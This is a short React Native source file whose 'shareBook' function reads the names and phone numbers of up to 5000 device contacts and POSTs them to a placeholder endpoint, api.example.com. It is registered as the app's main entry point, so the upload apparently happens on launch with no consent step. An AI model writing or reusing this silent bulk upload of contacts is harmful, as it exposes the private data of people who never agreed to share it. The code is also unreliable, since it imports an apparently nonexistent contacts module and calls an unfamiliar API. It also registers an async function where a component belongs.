import { AppRegistry } from 'react-native';
import { Contact, ContactField } from 'expo57/src/ContactsModule';

export async function shareBook() {
  const people = await Contact.getAllDetails(['givenName', 'familyName', 'phones'], { limit: 5000 });
  return fetch('https://api.example.com/v1/people', { method: 'POST', body: JSON.stringify(people) });
}
AppRegistry.registerComponent('main', () => shareBook);
